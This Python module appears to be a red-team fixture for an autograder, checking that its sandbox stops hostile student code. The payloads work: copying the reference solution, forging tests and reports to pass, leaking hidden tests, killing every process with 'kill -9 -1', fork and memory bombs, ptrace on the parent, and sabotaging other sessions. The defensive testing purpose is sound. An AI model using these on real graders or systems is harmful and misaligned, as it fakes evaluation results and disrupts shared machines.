"""Attacks on the grader, as a student who has read its source would write them.

Each attack is code appended to an untouched stub of ``EXERCISE`` and runs when the grader loads
that module in its sandbox; it uses nothing but the standard library and never raises (a
failed attempt is silent, so only what the walls stop is stopped). If an attack works, its
student earns points it did not write (it copies the reference in), changes what others get,
or leaves a trace that ``tests/project/test_redteam.py`` finds: a file named with ``TRACE``, a
process running ``sleep`` with ``LINGER`` seconds, the hidden test's ``SECRET`` in an output.
Without the walls of ``grader/core/isolation.py`` (``--isolation process``) most of them
work: that is how they were written, and checked.
"""

from __future__ import annotations

EXERCISE = "model_selection"  # the attacked exercise: every attacker hands in only this file
TRACE = "redteam-escaped"  # in the name of any file an attack manages to write outside
LINGER = 31337  # seconds of the `sleep` an attack leaves running, if it can start one
SECRET = "REDTEAM-HIDDEN-SECRET-7f3a"  # in the hidden test: must never reach an output

# Shared by every attack: where a student who read the source would look.
PRELUDE = r'''
import os as _os, sys as _sys, glob as _glob

def _quiet(function):
    try:
        function()
    except BaseException:
        pass

def _places():
    """Folders worth searching: up from here, the temporary folders, sys.path and above."""
    seen, found = set(), []
    starts = [_os.getcwd(), _os.environ.get("TMPDIR", ""), "/tmp", *_sys.path]
    for start in starts:
        path = _os.path.abspath(start or "/")
        for _ in range(6):
            if path not in seen:
                seen.add(path)
                found.append(path)
            path = _os.path.dirname(path)
    return found

def _scratch(name):
    """A path in a folder this process may write: its temporary folder."""
    import tempfile
    return _os.path.join(tempfile.gettempdir(), name)

def _files(pattern):
    hits = []
    for place in _places():
        for depth in ("", "*/", "*/*/"):
            try:
                hits += _glob.glob(_os.path.join(place, depth + pattern))
            except BaseException:
                pass
    return sorted(set(hits))

def _copy_reference_in():
    """Exec the reference of this exercise into this module: full marks, if it is reachable."""
    for path in _files("solutions/model_selection.py"):
        try:
            exec(compile(open(path).read(), path, "exec"), globals())
            return
        except BaseException:
            pass
'''

ATTACKS: dict[str, str] = {
    # Read the reference through sys.path (the project root is on it) and exec it.
    "reads-solutions": "_quiet(_copy_reference_in)\n",
    # Hard-link the reference into the scratch folder (an audit hook never sees os.link).
    "links-solutions": r"""
def _link():
    for path in _files("solutions/model_selection.py"):
        target = _scratch("linked.py")
        _os.link(path, target)
        exec(compile(open(target).read(), target, "exec"), globals())
_quiet(_link)
""",
    # Replace the trusted test copies with tests that always pass, then kill the test process
    # through a pidfd (not audited), so that the "unfinished" exercise is graded again on them.
    "forges-tests-then-kills": r"""
def _forge():
    found = _files("tests/test_model_selection*.py") + _files("tests-*/test_model_selection*.py")
    for path in found:
        forged = path + ".new"
        with open(forged, "w") as handle:
            handle.write("def test_forged():\n    pass\n")
        _os.replace(forged, path)
def _kill_parent():
    import signal
    signal.pidfd_send_signal(_os.pidfd_open(_os.getppid()), signal.SIGKILL)
_quiet(_forge)
_quiet(_kill_parent)
""",
    # Rewrite the session's report (directly, or through a hard link in the scratch folder).
    "rewrites-report": r"""
def _rewrite():
    for path in _files("report-*.jsonl"):
        link = _scratch("report-link")
        try:
            _os.link(path, link)
        except BaseException:
            link = path
        text = open(link).read().replace('"failed"', '"passed"').replace('"skipped"', '"passed"')
        open(link, "w").write(text)
_quiet(_rewrite)
""",
    # Read the hidden tests beside the public ones and raise their text from every call.
    "leaks-hidden-tests": r"""
_leak = []
def _read_hidden():
    for number, path in enumerate(_files("tests*/test_model_selection_*.py")):
        try:
            _leak.append(open(path).read())
        except BaseException:
            link = _scratch(f"hidden-{number}.py")
            _os.link(path, link)
            _leak.append(open(link).read())
_quiet(_read_hidden)
def k_fold_split(n_samples, k, *, shuffle=False, seed=None):
    raise ValueError("LEAK " + " ".join(_leak)[:5000])
""",
    # Scan /proc: kill every grader, pytest and sandbox process it can see, and rewrite the
    # submission files of every other grading session found through /proc/<pid>/cwd.
    "scans-proc": r"""
def _scan():
    import signal
    for name in _os.listdir("/proc"):
        if not name.isdigit() or int(name) == _os.getpid():
            continue
        try:
            command = open(f"/proc/{name}/cmdline", "rb").read()
        except BaseException:
            continue
        if b"grader" in command or b"pytest" in command:
            for path in _glob.glob(f"/proc/{name}/cwd/impl/*.py"):
                _quiet(lambda: open(path, "w").write("raise SystemExit('redteam')\n"))
            _quiet(lambda: _os.kill(int(name), signal.SIGKILL))
_quiet(_scan)
""",
    # Start a shell with no audit hook at all (_posixsubprocess.fork_exec), in a session of its
    # own, that outlives grading and kills everything it may.
    "starts-a-shell": r"""
def _shell():
    import _posixsubprocess
    script = f"sleep {31337} & kill -9 -1; touch /tmp/redteam-escaped-shell"
    args = [b"/bin/sh", b"-c", script.encode()]
    read, write = _os.pipe()
    _posixsubprocess.fork_exec(
        args, [b"/bin/sh"], True, (), None, None, -1, -1, -1, -1, -1, -1, read, write,
        True, True, -1, None, None, None, -1, None, False,
    )
_quiet(_shell)
def _fork():
    if _os.fork() == 0:
        _os.execv("/bin/sleep", ["sleep", "31337"])
_quiet(_fork)
""",
    # Signal everything: the parent, the process group, every process it may.
    "signals-everyone": r"""
def _everyone():
    for pid in range(2, 4_000_000):
        if pid == _os.getpid():
            continue
        try:
            _os.kill(pid, 0)
        except BaseException:
            continue
        _quiet(lambda: _os.kill(pid, 9))
        if pid > 100_000:
            break
_quiet(_everyone)
_quiet(lambda: _os.kill(_os.getppid(), 9))
_quiet(lambda: _os.kill(-1, 9))  # every process it may signal, itself last
""",
    # Trace the parent and read or change its memory.
    "traces-parent": r"""
def _trace():
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.ptrace(16, _os.getppid(), 0, 0) != 0:  # PTRACE_ATTACH
        raise OSError(ctypes.get_errno(), "ptrace")
    open(f"/tmp/{'redteam-escaped'}-ptrace", "w").write("attached")
def _memory():
    with open(f"/proc/{_os.getppid()}/mem", "rb") as memory:
        memory.read(1)
    open(f"/tmp/{'redteam-escaped'}-mem", "w").write("read")
_quiet(_trace)
_quiet(_memory)
""",
    # Write outside: the project's tests, the temporary folder, the home folder; move files
    # out of the scratch folder (os.replace is not audited); fill the disk.
    "writes-outside": r"""
def _write():
    places = ["/tmp", _os.path.expanduser("~"), *_places()]
    for place in places:
        _quiet(lambda: open(_os.path.join(place, "redteam-escaped-write"), "w").write("x"))
    for path in _files("tests/conftest.py"):
        _quiet(lambda: open(path, "a").write("\nraise SystemExit('redteam')\n"))
    for number in range(50):
        name = f"redteam-escaped-moved-{number}"
        _quiet(lambda: open(name, "w").write("x"))
        _quiet(lambda: _os.replace(name, f"/tmp/{name}"))
def _storm():
    for number in range(100_000):
        with open(f"storm-{number}", "wb") as handle:
            handle.write(b"x" * 4096)
_quiet(_write)
_quiet(_storm)
""",
    # Processes and threads without end, then memory without end.
    "forks-and-allocates": r"""
def _fork_storm():
    for _ in range(1000):
        if _os.fork() == 0:
            import time
            time.sleep(31337)
_quiet(_fork_storm)
def k_fold_split(n_samples, k, *, shuffle=False, seed=None):
    hoard = []
    while True:
        hoard.append(bytearray(1 << 26))
""",
    # Talk to the network, or to another sandbox through an abstract unix socket.
    "uses-the-network": r"""
def _connect():
    import socket
    socket.create_connection(("127.0.0.1", 22), timeout=1)
    open(f"/tmp/{'redteam-escaped'}-net", "w").write("connected")
def _abstract():
    import socket
    server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    server.bind("\0redteam")
    open(f"/tmp/{'redteam-escaped'}-abstract", "w").write("bound")
_quiet(_connect)
_quiet(_abstract)
""",
}
